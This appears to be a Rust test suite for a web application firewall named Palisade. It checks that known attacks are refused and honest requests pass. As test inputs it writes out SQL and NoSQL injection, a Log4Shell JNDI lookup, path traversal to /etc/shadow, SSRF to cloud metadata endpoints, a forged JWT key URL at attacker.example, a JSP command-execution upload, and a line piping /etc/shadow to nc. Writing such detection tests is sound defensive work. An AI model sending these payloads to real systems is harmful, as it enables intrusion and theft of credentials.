//! Known attacks over real sockets: refused, explained, silenced; and what is no attack passes.

use std::fs;

use crate::support::{
    Answer, Palisade, call, call_raw, call_slowly, call_with, command, program, shop, text, until,
};

/// SQL injection in a query, which nobody sends by mistake.
const ATTACK: &str = "/api/v1/products?q=1%27%20union%20select%20name,pass%20from%20users--%20";

fn refused(palisade: &Palisade, target: &str) -> Answer {
    let answer = call(palisade.address, "GET", target, "");
    assert_eq!(answer.status, 403, "{}", answer.body);
    answer
}

#[test]
fn an_attack_is_refused_from_the_first_request_and_explained_by_rule_and_field() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    let answer = refused(&palisade, ATTACK);
    assert!(upstream.got().is_empty(), "it reached the upstream");
    assert!(!answer.body.contains("SQL"), "no oracle: {}", answer.body);
    let id = answer.header("palisade-event").expect("an id").to_owned();
    let detail = palisade.json(&["why", &id]);
    assert_eq!(detail["event"]["layer"], "rules");
    let rule = &detail["event"]["rules"][0];
    assert!(rule["message"].as_str().expect("a message").contains("SQL"), "{rule}");
    assert_eq!(rule["field"], "ARGS:q");
    let words = text(&palisade.command(&["why", &id]).stdout);
    assert!(words.contains("ARGS:q") && words.contains("known-attack"), "{words}");
}

#[test]
fn of_all_that_looks_like_base64_the_field_is_told_that_holds_the_attack() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    // {"$type":"System.Configuration.Install.AssemblyInstaller"}, which .NET makes an object of.
    let attack = "eyIkdHlwZSI6IlN5c3RlbS5Db25maWd1cmF0aW9uLkluc3RhbGwuQXNzZW1ibHlJbnN0YWxsZXIifQ";
    let cookie = format!("lang=YXNkZmdoamtsMTIzNDU2Nzg5MA; state={attack}");
    let target = "/services/autocomplete";
    let answer = call_with(palisade.address, "GET", target, &[("cookie", &cookie)], "");
    assert_eq!(answer.status, 403, "{}", answer.body);
    let id = answer.header("palisade-event").expect("an id").to_owned();
    let rules = palisade.json(&["why", &id])["event"]["rules"].clone();
    assert_eq!(rules[0]["field"], "REQUEST_COOKIES:state", "{rules}");
}

const TOKEN: &str = "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.\
    eyJzdWIiOiI1IiwiZW1haWwiOiJhQGIuZXhhbXBsZScgQU5EIFNMRUVQKDUpLS0gIn0.c2ln";

const FOREIGN_KEY: &str = "Bearer eyJhbGciOiJSUzI1NiIsImprdSI6Imh0dHBzOi8vai5hdHRhY2tlci5leGFtcGxl\
    Ly53ZWxsLWtub3duL2p3a3MuanNvbiIsImtpZCI6IjEifQ.eyJzdWIiOiIxIn0.AAAA";
const UPLOAD: [(&str, &str); 1] = [("content-type", "multipart/form-data; boundary=b")];
const SERVER_PAGE: &str = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\n\
    Content-Type: image/svg+xml\r\n\r\n\
    <%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>\r\n--b--\r\n";

#[test]
fn attacks_in_bodies_keys_cookies_paths_and_tokens_count_too() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    let json = [("content-type", "application/json")];
    for (headers, target, body) in [
        (&json[..], "/api/v1/orders/7", r#"{"note":"x'; drop table users; --"}"#),
        (&json[..], "/api/v1/orders/7", r#"{"user":{"$ne":null},"password":{"$ne":null}}"#),
        (&json[..], "/api/v1/orders/7", r#"{"__proto__":{"isAdmin":true}}"#),
        (&[("user-agent", "${jndi:ldap://192.0.2.1/a}")][..], "/api/v1/products", ""),
        (&[][..], "/api/v1/orders/..%2f..%2f..%2fetc%2fpasswd", ""),
        // Whole only in the header: each of its cookies is a harmless piece.
        (&[("cookie", "lang=en; sid=1'; DROP TABLE users; --")][..], "/api/v1/products", ""),
        // {"sub":"5","email":"a@b.example' AND SLEEP(5)-- "}
        (&[("authorization", TOKEN)][..], "/api/v1/products", ""),
        // admin' or '1'='1:x
        (&[("authorization", "Basic YWRtaW4nIG9yICcxJz0nMTp4")][..], "/api/v1/products", ""),
        // {"alg":"RS256","jku":"https://j.attacker.example/.well-known/jwks.json","kid":"1"}
        (&[("authorization", FOREIGN_KEY)][..], "/api/v1/products", ""),
        // http://100.100.100.200/latest/meta-data/
        (
            &[][..],
            "/api/v1/products?x=aHR0cDovLzEwMC4xMDAuMTAwLjIwMC9sYXRlc3QvbWV0YS1kYXRhLw==",
            "",
        ),
        (&UPLOAD[..], "/api/v1/orders/7", SERVER_PAGE),
        // CVE-2024-45216.
        (&[][..], "/solr/admin/info/properties:/admin/info/key", ""),
    ] {
        let method = if body.is_empty() { "GET" } else { "POST" };
        let answer = call_with(palisade.address, method, target, headers, body);
        assert_eq!(answer.status, 403, "{target} {body}");
    }
    assert!(upstream.got().is_empty());
}

/// What honest callers of some products need is spared, and what an attacker would make of that is
/// not: another field, another path, or more in the same field.
#[test]
fn what_is_spared_is_spared_there_alone() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    let post = |target: &str, body: &str| {
        let json = [("content-type", "application/json")];
        call_with(palisade.address, "POST", target, &json, body).status
    };
    let rows = [
        (
            "/apis/deployments",
            r#"{"volumeMounts":[{"mountPath":"/etc/nginx/conf.d"}]}"#,
            "/apis/deployments",
            r#"{"volumeMounts":[{"mountPath":"../../../../etc/shadow"}]}"#,
        ),
        (
            "/hooks/push",
            r#"{"commits":[{"added":["etc/passwd.example"]}]}"#,
            "/hooks/push",
            r#"{"commits":[{"added":["../../../../etc/shadow"]}]}"#,
        ),
        (
            "/api/datasources",
            r#"{"url":"http://localhost:9090"}"#,
            "/api/datasources",
            r#"{"url":"http://169.254.169.254/latest/meta-data/"}"#,
        ),
        (
            "/chat/completions",
            r#"{"messages":[{"content":"Why is name = '' OR '1'='1' -- wrong?"}]}"#,
            "/v1/messages",
            r#"{"messages":[{"content":"' OR '1'='1' --"}]}"#,
        ),
        (
            "/registry/a",
            r#"{"versions":{"1.0":{"scripts":{"a":"node -e \"require('child_process').execSync('ls')\""}}}}"#,
            "/registry/a",
            r#"{"versions":{"1.0":{"name":"node -e \"require('child_process').execSync('ls')\""}}}"#,
        ),
    ];
    for (target, honest, ..) in rows {
        assert_eq!(post(target, honest), 404, "{honest}: the shop answers");
    }
    for (.., target, attack) in rows {
        assert_eq!(post(target, attack), 403, "{attack}");
    }
}

#[test]
fn an_empty_line_before_the_request_line_hides_nothing() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    let get = |target: &str| format!("GET {target} HTTP/1.1\r\nHost: h\r\n");
    let close = "Connection: close\r\n\r\n";
    for target in [ATTACK, "/api/v1/products?x=${jndi:ldap://192.0.2.1/a}"] {
        let answer = call_raw(palisade.address, format!("\r\n{}{close}", get(target)).as_bytes());
        assert_eq!(answer.status, 403, "{target}: {}", answer.body);
    }
    assert!(upstream.got().is_empty());
    // A head that is refused for its form is shown to the rules, too.
    let doubled = format!("\r\n{}Host: h\r\n{close}", get(ATTACK));
    let answer = call_raw(palisade.address, doubled.as_bytes());
    assert_eq!(answer.status, 400, "{}", answer.body);
    let id = answer.header("palisade-event").expect("an id").to_owned();
    let told = until("its event", || {
        let event = palisade.json(&["why", &id])["event"].clone();
        event["rules"].as_array().map(Vec::len).filter(|rules| *rules > 0)
    });
    assert!(told > 0);
    let honest = format!("\r\n{}{close}", get("/api/v1/products"));
    assert_eq!(call_raw(palisade.address, honest.as_bytes()).status, 200);
}

#[test]
fn an_attack_is_found_however_its_body_is_named_coded_or_sent() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    let to = palisade.address;
    let attack = r#"{"note":"x'; drop table users; --"}"#;
    let post = |headers: &[(&str, &str)], body: &str| {
        call_with(to, "POST", "/api/v1/orders/7", headers, body).status
    };
    for kind in
        ["image/png", "application/octet-stream", "application/x-ndjson", "text/event-stream"]
    {
        assert_eq!(post(&[("content-type", kind)], attack), 403, "{kind}");
        // What is no attack is let through under any name, and answered by the shop.
        assert_eq!(post(&[("content-type", kind)], r#"{"note":"tea"}"#), 404, "{kind}");
    }
    assert_eq!(post(&[("content-type", "application/grpc")], attack), 415);
    assert_eq!(post(&[("content-encoding", "x")], attack), 415);
    assert_eq!(post(&[("content-encoding", "identity, identity")], attack), 403);
    assert_eq!(post(&[("content-encoding", "gzip")], attack), 415);
    let head = |more: &str, length: usize| {
        format!(
            "POST /api/v1/orders/7 HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\
             Content-Type: application/json\r\n{more}Content-Length: {length}\r\n\r\n"
        )
    };
    // `{"note":` in one member, the rest in another, neither of them compressed.
    let members = [stored(b"{\"note\":"), stored(&attack.as_bytes()[8..])].concat();
    let coded = [head("Content-Encoding: gzip\r\n", members.len()).as_bytes(), &members].concat();
    assert_eq!(call_raw(to, &coded).status, 403);
    let paused = call_slowly(to, head("", attack.len()) + &attack[..1], &attack[1..]);
    assert_eq!(paused.status, 403);
    assert!(upstream.got().iter().all(|got| !got.body.contains("drop table")));
    let tea = r#"{"note":"tea"}"#;
    assert_eq!(call_slowly(to, head("", tea.len()) + &tea[..1], &tea[1..]).status, 404);
}

/// A member of gzip that holds `plain` as it is.
fn stored(plain: &[u8]) -> Vec<u8> {
    let crc = !plain.iter().fold(!0_u32, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 }
        })
    });
    let length = u16::try_from(plain.len()).expect("a short text");
    let mut member = b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x01".to_vec();
    member.extend(length.to_le_bytes());
    member.extend((!length).to_le_bytes());
    member.extend(plain);
    member.extend(crc.to_le_bytes());
    member.extend(u32::from(length).to_le_bytes());
    member
}

#[test]
fn a_request_asked_about_may_be_typed_with_blanks() {
    let ask = |request: &str| {
        let output = program().args(["rules", "why", request]).output().expect("runs");
        assert!(output.status.success(), "{}", text(&output.stderr));
        text(&output.stdout)
    };
    let typed = ask("GET /x?q=' or 1=1--");
    assert!(typed.contains("request is refused"), "{typed}");
    assert_eq!(typed, ask("GET /x?q='%20or%201=1--"));
    assert!(ask("GET /x?q=tea or coffee").contains("let pass"));
}

#[test]
fn a_folder_without_tests_proves_nothing() {
    let empty = tempfile::tempdir().expect("a folder");
    let crs = empty.path().join("crs");
    fs::create_dir_all(crs.join("rules")).expect("a folder");
    let setup = "SecRuleEngine On\n";
    fs::write(crs.join("crs-setup.conf.example"), setup).expect("written");
    fs::write(crs.join("rules/one.conf"), setup).expect("written");
    let output = program()
        .args(["rules", "conformance", "--crs"])
        .arg(&crs)
        .arg("--tests")
        .arg(empty.path())
        .output()
        .expect("runs");
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    assert!(text(&output.stderr).contains("there is no test in"), "{output:?}");
}

#[test]
fn ordinary_json_prose_and_names_pass() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    // {"sub":"5","name":"O'Connor and Sons","scope":"openid;id"}
    let token = "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.\
        eyJzdWIiOiI1IiwibmFtZSI6Ik8nQ29ubm9yIGFuZCBTb25zIiwic2NvcGUiOiJvcGVuaWQ7aWQifQ.c2ln";
    let json = [("content-type", "application/json"), ("authorization", token)];
    for body in [
        r#"{"name":"Anne O'Brien","note":"left at the door; call on arrival"}"#,
        r#"{"text":"select the best offers from our union members where prices drop"}"#,
        r#"{"code":"for (int i = 0; i < n; i++) { sum += a[i]; }"}"#,
        r##"{"html":"<p>Dear <b>Ada</b>,</p>","markdown":"# Title\n- item"}"##,
        r#"{"query":"query Orders($n: Int!) { orders(first: $n) { id total } }"}"#,
    ] {
        let answer = call_with(palisade.address, "POST", "/api/v1/orders/7", &json, body);
        assert_eq!(answer.status, 404, "{body}: {}", answer.body);
    }
    for target in ["/api/v1/products?q=it%27s%20a%20tea", "/api/v1/products?sort=-price&page=2"] {
        assert_eq!(call(palisade.address, "GET", target, "").status, 200, "{target}");
    }
}

#[test]
fn monitor_only_says_what_enforce_would_do() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &[]);
    assert_eq!(call(palisade.address, "GET", ATTACK, "").status, 200);
    let event = until("an event", || {
        let list = palisade.json(&["events"]);
        list["events"].as_array()?.iter().find(|event| event["layer"] == "rules").cloned()
    });
    assert_eq!((&event["action"], &event["refused"]), (&"deny".into(), &false.into()));
}

#[test]
fn silencing_an_event_lets_its_rules_pass_there_and_nowhere_else() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    assert_eq!(call(palisade.address, "GET", "/api/v1/products", "").status, 200);
    let answer = refused(&palisade, ATTACK);
    let id = answer.header("palisade-event").expect("an id").to_owned();
    let silenced = palisade.command(&["silence", &id, "--scope", "endpoint"]);
    assert!(silenced.status.success(), "{}", text(&silenced.stderr));
    assert!(text(&silenced.stdout).contains("rule"), "{}", text(&silenced.stdout));
    assert_eq!(call(palisade.address, "GET", ATTACK, "").status, 200);
    refused(&palisade, &ATTACK.replace("products", "orders/7"));
}

#[test]
fn callers_on_this_machine_are_told_the_rules_when_asked_for() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let file = data.path().join("palisade.toml");
    let policy = format!(
        "version = 1\n[debug]\nrule_header = true\n[server]\nlisten = \"127.0.0.1:0\"\n\
         [[site]]\nupstream = \"{}\"\nmode = \"enforce\"\n",
        upstream.url()
    );
    fs::write(&file, policy).expect("a file");
    let file = file.to_str().expect("a name");
    let palisade = Palisade::start(&data.path().join("data"), &["--config", file]);
    let answer = refused(&palisade, ATTACK);
    let rules = answer.header("x-palisade-rules").expect("rules");
    assert!(rules.split(',').any(|rule| rule.starts_with("951")), "{rules}");
    let honest = call(palisade.address, "GET", "/api/v1/products", "");
    assert_eq!(honest.header("x-palisade-rules"), Some(""));
}

#[test]
fn a_folder_without_rules_is_refused_with_the_places_that_were_looked_at() {
    let data = tempfile::tempdir().expect("a folder");
    let listed = command(data.path(), &["rules", "list", "--crs", "/nowhere/crs"]);
    assert_eq!(listed.status.code(), Some(4));
    assert!(text(&listed.stderr).contains("modsecurity-crs"), "{}", text(&listed.stderr));
}

#[test]
fn rules_are_asked_about_a_body_without_sending_it() {
    let data = tempfile::tempdir().expect("a folder");
    let json = ["-H", "Content-Type: application/json", "-d"];
    let asked = |body: &'static str| {
        let args = [&["rules", "why", "POST /orders"], &json[..], &[body]].concat();
        let answer = command(data.path(), &args);
        assert!(answer.status.success(), "{}", text(&answer.stderr));
        text(&answer.stdout)
    };
    let attack = asked(r#"{"q":"1' union select name,pass from users--"}"#);
    assert!(attack.contains("refused") && attack.contains("json.q"), "{attack}");
    let honest = asked(r#"{"name":"Anne O'Brien"}"#);
    assert!(honest.contains("no rule matches"), "{honest}");
}

#[test]
fn rule_sets_that_were_replaced_are_given_back() {
    /// Before these, what is needed once is taken: `drill trial rule-reloads` goes on for 1,000.
    const SETTLED_AFTER: u32 = 8;
    const RELOADS: u32 = 24;
    /// A set kept behind by each would be sixteen sets: some hundred megabytes.
    const GROWTH_MAX: u64 = 24 << 20;
    let (upstream, folder) = (shop(), tempfile::tempdir().expect("a folder"));
    let file = folder.path().join("palisade.toml");
    let write = |round: u32| {
        // What rules may take is among what they are loaded under.
        let policy = format!(
            "version = 1\n[server]\nlisten = [\"127.0.0.1:0\"]\n[rules]\ncpu_budget = \"{}ms\"\n\
             [[site]]\nhosts = [\"*\"]\nupstream = [\"{}\"]\n",
            10 + round,
            upstream.url()
        );
        fs::write(&file, policy).expect("written");
    };
    write(0);
    let named = file.to_str().expect("a path").to_owned();
    let palisade = Palisade::start(&folder.path().join("data"), &["--config", &named]);
    let mut settled = 0;
    for round in 1..=RELOADS {
        write(round);
        assert!(palisade.command(&["reload"]).status.success());
        let target = format!("/api/v1/products?q=blue%20shirt%20{round}");
        assert_eq!(call(palisade.address, "GET", &target, "").status, 200);
        if round == SETTLED_AFTER {
            settled = resident(palisade.pid());
        }
    }
    let grown = resident(palisade.pid()).saturating_sub(settled);
    assert!(grown < GROWTH_MAX, "{grown} bytes more than the {settled} of the first");
}

/// What a process has in memory.
fn resident(pid: u32) -> u64 {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).expect("Linux");
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).expect("a line");
    let kib: u64 = line.split_whitespace().next().and_then(|it| it.parse().ok()).expect("KiB");
    kib * 1024
}

/// Searches, each of which another rule takes for an attack.
const ATTACKS: [&str; 5] = [
    ATTACK,
    "/api/v1/products?q=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
    "/api/v1/products?q=%3B%20cat%20%2Fetc%2Fshadow%20%7C%20nc%20203.0.113.5%2099",
    "/api/v1/products?q=*)(uid=*))(%7C(uid=*",
    "/api/v1/products?q=1%3B%20WAITFOR%20DELAY%20%270%3A0%3A9%27--",
];

#[test]
fn ordinary_requests_between_attacks_keep_a_source_from_being_blocked() {
    for (between, status) in [(0, 403), (40, 200)] {
        let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
        let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
        for attack in ATTACKS {
            refused(&palisade, attack);
            for page in 0..between {
                let target = format!("/api/v1/products?page={page}");
                assert_eq!(call(palisade.address, "GET", &target, "").status, 200, "{target}");
            }
        }
        let last = call(palisade.address, "GET", "/api/v1/products?page=1", "");
        assert_eq!(last.status, status, "with {between} in between: {}", last.body);
    }
}
